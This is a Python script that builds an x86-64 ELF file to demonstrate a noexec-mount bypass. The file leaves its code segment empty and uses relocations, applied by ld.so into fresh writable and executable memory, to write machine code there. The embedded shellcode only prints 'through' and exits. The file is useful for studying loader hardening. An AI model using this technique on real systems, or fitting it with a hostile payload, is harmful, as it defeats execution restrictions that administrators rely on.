"""A program whose code is in none of its segments: they are zeros, and the loader is told to fill them.

A mount that forbids to execute forbids to map a file as code. Here no file is: one segment has no bytes in the file,
so the loader makes it of fresh memory, writable and executable as it is told, and relocations, which are data, write
the code into it.
"""

import struct

PAGE = 0x1000
CODE_AT, DATA_AT = 3 * PAGE, PAGE
# write(1, "through\n", 8); exit_group(0)
CODE = {
    "x86_64": bytes.fromhex("48b87468726f7567680a50" "4889e6" "bf01000000" "ba08000000" "b801000000" "0f05"
                            "31ff" "b8e7000000" "0f05"),
}
MACHINE = {"x86_64": (62, 1)}  # e_machine, the relocation that stores symbol + addend


def loader_trick(machine="x86_64"):
    """Bytes of an ELF file for `ld.so FILE`; where its code runs it prints "through"."""
    e_machine, store = MACHINE[machine]
    code = CODE[machine] + b"\0" * (-len(CODE[machine]) % 8)
    symbols = b"\0" * 24 + struct.pack("<IBBHQQ", 0, 0, 0, 0xFFF1, 0, 0)  # none, and an absolute zero
    words = struct.unpack(f"<{len(code) // 8}q", code)
    relocations = b"".join(struct.pack("<QQq", CODE_AT + 8 * i, 1 << 32 | store, w) for i, w in enumerate(words))
    strings = b"\0"
    loader = b"/ld.so\0"  # without one, it would be executed and not loaded
    at = {}
    data = b""
    for name, part in (("symbols", symbols), ("relocations", relocations), ("strings", strings),
                       ("loader", loader)):
        data += b"\0" * (-len(data) % 8)
        at[name] = DATA_AT + len(data)
        data += part
    data += b"\0" * (-len(data) % 8)
    dynamic_at = DATA_AT + len(data)
    tags = [(5, at["strings"]), (10, len(strings)), (6, at["symbols"]), (11, 24), (7, at["relocations"]),
            (8, len(relocations)), (9, 24), (12, CODE_AT), (0, 0)]
    dynamic = b"".join(struct.pack("<QQ", *t) for t in tags)
    data += dynamic

    def segment(kind, flags, offset, address, in_file, in_memory):
        return struct.pack("<IIQQQQQQ", kind, flags, offset, address, address, in_file, in_memory,
                           PAGE if kind == 1 else 8)

    segments = [segment(3, 4, at["loader"], at["loader"], len(loader), len(loader)),
                segment(1, 4, 0, 0, PAGE, PAGE), segment(1, 6, PAGE, DATA_AT, len(data), len(data)),
                segment(1, 7, 0, CODE_AT, 0, PAGE), segment(2, 6, dynamic_at, dynamic_at, len(dynamic), len(dynamic)),
                segment(0x6474E551, 6, 0, 0, 0, 0)]
    head = b"\x7fELF\x02\x01\x01" + b"\0" * 9 + struct.pack(
        "<HHIQQQIHHHHHH", 3, e_machine, 1, CODE_AT, 64, 0, 0, 64, 56, len(segments), 64, 0, 0)
    return (head + b"".join(segments)).ljust(PAGE, b"\0") + data
